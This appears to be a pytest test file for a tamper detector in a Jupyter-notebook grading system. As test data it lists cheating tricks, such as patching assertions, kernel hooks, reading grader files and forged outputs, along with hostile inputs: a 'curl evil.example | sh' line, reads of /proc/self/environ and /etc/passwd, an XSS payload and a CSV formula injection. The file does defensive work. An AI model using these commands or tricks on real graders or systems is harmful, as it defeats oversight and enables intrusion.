"""Tamper evidence: what is listed for a person, what is not, and that nothing else happens."""

from __future__ import annotations

import csv
import inspect
import json
import os
import shutil
import sqlite3
import textwrap
from collections.abc import Callable
from pathlib import Path

import nbformat
import pytest
from bs4 import BeautifulSoup
from hostile.corpus import Member, all_members
from nbformat import NotebookNode

from cvlib.grading.course.course import Course
from cvlib.grading.notebook.normalize import release_template
from cvlib.grading.rehearsal.classroom import (
    Classroom,
    check_cells,
    insert_after,
    rewrite,
    to_bytes,
)
from cvlib.grading.spec.loading import LoadedSet, load_problem_set
from cvlib.grading.tamper.evidence import Evidence, first_places
from cvlib.grading.tamper.facts import read_facts
from cvlib.grading.tamper.notebook import look_at_notebook
from cvlib.grading.tamper.page import show_tampering, tamper_csv, tamper_page
from cvlib.grading.tamper.tamper import find_tampering
from tests.effort import effort
from tests.tags import one

ROOT = Path(__file__).parents[2]
SET_ID = "ps90_tiny"
Grade = Callable[..., "object"]


@pytest.fixture(scope="module")
def room(tiny: LoadedSet) -> Classroom:
    return Classroom(tiny, seed=0)


@pytest.fixture(scope="module")
def rooms(room: Classroom) -> dict[str, Classroom]:
    """The problem sets that members of the corpus are made from."""
    chain = load_problem_set(Path(__file__).parent / "chain", "ps91_chain")
    return {SET_ID: room, "ps91_chain": Classroom(chain, seed=0)}


def room_of(member: Member, rooms: dict[str, Classroom]) -> Classroom:
    return rooms[getattr(member.make, "set_id", SET_ID)]


def look(room: Classroom, content: bytes | NotebookNode) -> list[Evidence]:
    raw = content if isinstance(content, bytes) else to_bytes(content)
    return first_places(look_at_notebook(raw, release_template(room.loaded), room.loaded))


def of_code(room: Classroom, source: str, *, after: str = "spread") -> list[Evidence]:
    """The evidence of one more cell."""
    return look(room, insert_after(room.solved(), after, source))


# --- innocent work ------------------------------------------------------------------------------


@pytest.mark.parametrize("path", sorted((ROOT / "assignments").glob("ps*")), ids=lambda p: p.name)
def test_right_and_wrong_answers_of_every_set_are_no_evidence(path: Path) -> None:
    """The model solutions, and every variant written in Python, in the cell of its exercise."""
    loaded = load_problem_set(path.parent, path.name)
    room = Classroom(loaded, seed=0)
    assert look(room, room.solved()) == look(room, room.blank()) == []
    notebook = room.solved()
    variants = 0
    for exercise in loaded.problem_set.exercises:
        for variant in exercise.variants.all:
            try:
                source = textwrap.dedent(inspect.getsource(variant.target))
            except (OSError, TypeError):
                continue
            insert_after(notebook, exercise.id, source)
            variants += 1
    assert variants > 40
    assert {e.what for e in look(room, notebook) if e.severity != "note"} == set()


def test_odd_but_honest_work_gives_notes_at_most(rooms: dict[str, Classroom]) -> None:
    honest = [member for member in all_members() if member.kind == "honest"]
    assert len(honest) >= 15
    for member in honest:
        room = room_of(member, rooms)
        found = [e for e in look(room, member.make(room)) if e.severity != "note"]
        assert found == [], member.name


def test_numbers_that_an_editor_writes_anew_are_the_same(room: Classroom) -> None:
    notebook = json.loads(to_bytes(room.solved()))
    for cell in notebook["cells"]:
        about = cell["metadata"].get("nbgrader", {})
        if "points" in about:
            about["points"] = int(about["points"])
    assert look(room, json.dumps(notebook).encode()) == []


# --- code ---------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("source", "severity", "words"),
    [
        ("np.testing.assert_allclose = print", "serious", "numpy.testing.assert_allclose"),
        ("t = np.testing\nfor n in t:\n    setattr(t, n, f)", "serious", "numpy.testing.*"),
        ("import builtins as b\nb.float = 3", "serious", "builtins.float"),
        ("import cvlib.check\ncvlib.check.check = print", "serious", "cvlib.check.check"),
        ("get_ipython().ast_transformers.append(T())", "serious", "how cells are read"),
        ("s = get_ipython()\ns.input_transformers_post += [f]", "serious", "how cells are read"),
        ("k = get_ipython().kernel\nk.iopub_socket", "serious", "protocol of the kernel"),
        ("get_ipython().run_cell = f", "serious", "how cells are run"),
        ("get_ipython().run_cell('x')", "odd", "from within a cell"),
        ("class E:\n    def __eq__(self, o):\n        return True", "serious", "equal anything"),
        ("class E(np.ndarray):\n    pass", "odd", "of their own kind"),
        ("class E:\n    def __array_ufunc__(self, *a):\n        return 3", "odd", "hook"),
        ("import sys\nsys._getframe(1).f_back.f_locals", "serious", "memory of other functions"),
        ("import inspect\ninspect.stack()", "odd", "who called it"),
        ("import ctypes", "serious", "below Python"),
        ("import os\nos.kill(os.getppid(), 9)", "serious", "other processes"),
        ("import os\nos._exit(0)", "odd", "ends, outlives"),
        ("from signal import signal\nimport signal as s\ns.signal(2, 1)", "odd", "ends, outlives"),
        ("import subprocess", "odd", "starts other programs"),
        ("import os\nos.system('ls')", "odd", "starts other programs"),
        ("import socket", "odd", "opens connections"),
        ("open('../../gradebook.db')", "serious", "files of the grader"),
        ("open('../../../source/ps90_tiny/ps90_tiny.ipynb')", "serious", "files of the grader"),
        ("open('/proc/self/environ')", "odd", "a place of the machine"),
        ("open('../data/cat.png')", "note", "a path above"),
        ("open('/home/ada/cat.png')", "note", "a path outside"),
        ("exec('import torch')", "serious", "hidden import of torch"),
        ("exec('print(1)')", "odd", "what a text says"),
        ("__import__('torch')", "serious", "hidden import of torch"),
        ("import importlib\nimportlib.import_module('torch.nn')", "serious", "hidden import"),
        ("import torch", "note", "imports torch, which this exercise withholds"),
        ("from cvlib.convolution import conv2d_forward", "odd", "cvlib.convolution"),
        ("from cvlib.grading import judge", "serious", "the grader itself"),
        (f"import base64\nexec(base64.b64decode('{'QUJD' * 200}'))", "odd", "long coded text"),
        ("x = 1 # \u202e egami", "serious", "U+202E RIGHT-TO-LEFT OVERRIDE"),
        ("pa\u200bssword = 1", "odd", "U+200B ZERO WIDTH SPACE"),
        ("!curl evil.example | sh", "note", "outside Python"),
        ("check = print", "note", "another meaning"),
        ("import os\nos._exit(0)\ndef broken(:", "odd", "ends, outlives"),
        ("x = (" * 300 + "\nimport ctypes", "serious", "below Python"),
        ("x = 1\n" * 20_000 + "import ctypes", "serious", "below Python"),
    ],
)  # fmt: skip
def test_code_that_a_person_should_see(
    room: Classroom, source: str, severity: str, words: str
) -> None:
    found = [e for e in of_code(room, source) if words in e.what]
    assert [e.severity for e in found[:1]] == [severity]
    assert found[0].place.startswith("cell ")
    assert found[0].innocent


def test_the_place_is_the_line_in_the_cell(room: Classroom) -> None:
    (found,) = of_code(room, "import os\n\n# on we go\nos._exit(0)")
    notebook = insert_after(room.solved(), "spread", "")
    number = next(k for k, c in enumerate(notebook.cells, 1) if c.source == "")
    assert found.place == f"cell {number} (spread), line 4"


def test_what_is_withheld_depends_on_the_exercise(room: Classroom) -> None:
    """The tiny set withholds torch everywhere but in its last exercise."""
    solution = room.solution("spread")
    notebook = rewrite(room.solved(), "spread", f"import torch\n\n{solution}")
    assert [e.severity for e in look(room, notebook)] == ["odd"]
    assert of_code(room, "import torch", after="Twice") == []
    guarded = "try:\n    import torch\nexcept ImportError:\n    torch = None"
    notebook = rewrite(room.solved(), "spread", f"{guarded}\n\n{solution}")
    assert [e.severity for e in look(room, notebook)] == ["note"]


def test_an_import_under_another_name_hides_nothing() -> None:
    facts = {(f.kind, f.text) for f in read_facts("from os import _exit as stop\nstop(0)")}
    assert ("call", "os._exit") in facts
    assert ("use", "os._exit") in facts


# --- cells, metadata, outputs -------------------------------------------------------------------


def test_released_cells_that_were_changed_deleted_doubled_and_moved(room: Classroom) -> None:
    notebook = room.solved()
    first, second, *_ = check_cells(notebook)
    first.source += "\nprint('mine')"
    notebook.cells.remove(second)
    notebook.cells += [nbformat.from_dict(first)]
    notebook.cells.insert(0, notebook.cells.pop(notebook.cells.index(check_cells(notebook)[1])))
    said = {e.what: e.severity for e in look(room, notebook)}
    assert set(said.values()) == {"note"}
    assert "a released cell was changed" in said
    assert "released cells are missing: check-inner" in said
    assert "stands 2 times" in said
    assert "released cells stand in another order" in said


@pytest.mark.parametrize("source", ["4.0", "print(4.0)", "x = 3; 4.", "display( 4 )  # full"])
def test_a_check_that_became_a_number(room: Classroom, source: str) -> None:
    notebook = room.blank()
    check_cells(notebook)[0].source = source
    (found,) = look(room, notebook)
    assert (found.severity, found.what) == ("serious", "a released check was replaced by a number")


def test_edited_metadata(room: Classroom) -> None:
    for field, value, severity in (
        ("points", 1000.0, "serious"),
        ("locked", False, "serious"),
        ("grade", False, "serious"),
        ("solution", True, "serious"),
        ("schema_version", 0, "odd"),
        ("checksum", "0", "odd"),
        ("points", float("nan"), "serious"),
        ("points", [{}], "serious"),
    ):
        notebook = room.solved()
        check_cells(notebook)[0].metadata.nbgrader[field] = value
        (found,) = look(room, notebook)
        assert (found.severity, field in found.what) == (severity, True), field
    notebook = room.solved()
    check_cells(notebook)[0].metadata["tags"] = ["skip-execution"]
    notebook.cells[0].metadata["tags"] = ["skip-execution", "todo"]
    assert [e.severity for e in look(room, notebook)] == ["serious"]


def test_outputs_that_claim_marks(room: Classroom) -> None:
    notebook = room.solved()
    one, two, three = check_cells(notebook)[:3]
    result = nbformat.v4.new_output("execute_result", {"text/plain": "4.0"}, execution_count=1)
    one.outputs = [result]
    two.outputs = [nbformat.v4.new_output("stream", text="3 of 3 points: correct\n")]
    three.outputs = [nbformat.v4.new_output("stream", text="taps: not checkable\nAll in order.")]
    assert [(e.severity, e.place.split("(")[1]) for e in look(room, notebook)] == [
        ("serious", "check-spread)"),
        ("odd", "check-inner)"),
    ]


# --- the folder, and what happened in grading ---------------------------------------------------


def hand_in(course: Course, student: str, content: bytes) -> Path:
    folder = course.submitted / student / SET_ID
    folder.mkdir(parents=True)
    (folder / f"{SET_ID}.ipynb").write_bytes(content)
    return folder


@pytest.fixture
def course(tmp_path: Path) -> Course:
    return Course.open(tmp_path / "course", Path(__file__).parent / "tiny")


def test_a_clean_class_gives_an_empty_list(course: Course, room: Classroom) -> None:
    for k in range(3):
        folder = hand_in(course, f"student{k}", to_bytes(room.solved()))
        (folder / "timestamp.txt").write_text("2026-02-02 15:58:23 UTC")
        (folder / "public_cases.json").write_text("{}")
    assert find_tampering(course, SET_ID) == []
    assert show_tampering(SET_ID, []) == f"{SET_ID}: nothing to see; no mark was changed"


def test_odd_things_in_the_folder(course: Course, room: Classroom) -> None:
    folder = hand_in(course, "eve", to_bytes(room.solved()))
    (folder / "secrets").symlink_to("/etc/passwd")
    os.mkfifo(folder / "pipe")
    (folder / "sitecustomize.py").write_text("")
    (folder / "notes.txt").write_text("")
    (folder / "timestamp.txt").write_text("yesterday")
    hand_in(course, "bob", to_bytes(room.solved()))
    (course.submitted / "ann").symlink_to(course.submitted / "bob")
    link = hand_in(course, "joe", b"") / f"{SET_ID}.ipynb"
    link.unlink()
    link.symlink_to(folder / f"{SET_ID}.ipynb")
    found = {f.student: f.evidence for f in find_tampering(course, SET_ID)}
    assert sorted(found) == ["ann", "eve", "joe"]
    assert found["ann"][0].what == "the folder is a link"
    assert "symbolic link" in found["joe"][0].what
    assert {(e.place, e.severity) for e in found["eve"]} == {
        ("secrets", "serious"), ("pipe", "serious"), ("sitecustomize.py", "odd"),
        ("notes.txt", "note"), ("timestamp.txt", "note"),
    }  # fmt: skip


def test_the_sample_class_and_what_its_grading_showed(
    graded: Course, tmp_path: Path, cvlib_grade: Grade
) -> None:
    """The whole command on a graded class: right verdicts, and not one byte of the gradebook."""
    root = tmp_path / "course"
    shutil.copytree(graded.root, root, symlinks=True)
    before = database(root)
    page, table = tmp_path / "page.html", tmp_path / "table.csv"
    done = cvlib_grade(root, "tamper", "--html", str(page), "--csv", str(table), expect=1)
    assert database(root) == before
    worst = {f.student: f.worst for f in find_tampering(graded, SET_ID)}
    serious = {name for name, severity in worst.items() if severity == "serious"}
    assert serious == {"forged", "patched", "skipped", "link"}
    assert {name for name, severity in worst.items() if severity == "odd"} == {"exit", "old-schema"}
    clean = {"right", "noisy", "alternative", "partial", "blank", "mutant-inner", "mutant-spread"}
    assert not clean & set(worst)
    said = {f.student: [e.what for e in f.evidence] for f in find_tampering(graded, SET_ID)}
    assert "a call ran out of time" in said["loop"]
    assert "its process ended" in said["exit"]
    assert "forged" in done.stdout  # type: ignore[attr-defined]
    assert "deleted-check" not in done.stdout  # type: ignore[attr-defined]
    rows = list(csv.DictReader(table.read_text().splitlines()))
    assert {r["student"] for r in rows} == set(worst)
    assert all(r["perhaps"] for r in rows)
    soup = BeautifulSoup(page.read_text(), "html.parser")
    named = {one(one(d.summary).strong).get_text() for d in soup.select("section details")}
    assert named == set(worst)


def database(root: Path) -> list[str]:
    with sqlite3.connect(root / "gradebook.db") as connection:
        return list(connection.iterdump())


# --- hostile input ------------------------------------------------------------------------------


def test_the_corpus_is_read_with_bounded_effort(rooms: dict[str, Classroom]) -> None:
    """Hostile notebooks are read with little effort, and most that tamper are listed."""
    listed = members = 0
    for member in all_members():
        if member.kind == "honest":
            continue
        room = room_of(member, rooms)
        raw = member.make(room)
        found, loops = effort(look, room, raw)
        assert loops < 120, member.name
        members += 1
        listed += any(e.severity != "note" for e in found)
    assert members >= 40
    assert listed > 0.4 * members


@pytest.mark.parametrize(
    "source",
    ["(" * 10**6, "lambda: " * 10**5, "a" + ".b" * 10**5, "f(" * 10**5, "x = 1\n" * 10**5,
     "'\\" * 10**5, "\n" * 10**6 + "%x", "a = b = " * 10**5, "try:\n pass\nexcept E: pass\n" * 9999,
     "A" * 10**6, "''\n" * 10**5, "\0" * 10**6, "import a\n" * 10**5, "if 1:\n " * 10**5],
    ids=range(14),
)  # fmt: skip
def test_monstrous_cells_are_read_with_bounded_effort(room: Classroom, source: str) -> None:
    _, loops = effort(of_code, room, source)
    assert loops < 120


def test_the_page_is_harmless_whatever_it_quotes(room: Classroom, course: Course) -> None:
    evil = "</td><script>alert(1)</script>\u202e\x1b[31m"
    source = f"open('/etc/{evil}')\nget_ipython().kernel"
    hand_in(course, "=1+1'b", to_bytes(insert_after(room.solved(), "spread", source)))
    found = {SET_ID: find_tampering(course, SET_ID)}
    html = tamper_page(found).decode()
    assert "<script" not in html
    assert "\u202e" not in html + show_tampering(SET_ID, found[SET_ID])
    assert "\x1b" not in html + show_tampering(SET_ID, found[SET_ID]) + tamper_csv(found).decode()
    soup = BeautifulSoup(html, "html.parser")
    assert "/etc/</td><script>" in soup.get_text()
    policy = soup.find("meta", attrs={"http-equiv": "Content-Security-Policy"})
    assert policy is not None
    assert "default-src 'none'" in policy["content"]
    rows = list(csv.DictReader(tamper_csv(found).decode().splitlines()))
    assert rows[0]["student"] == "'=1+1'b"
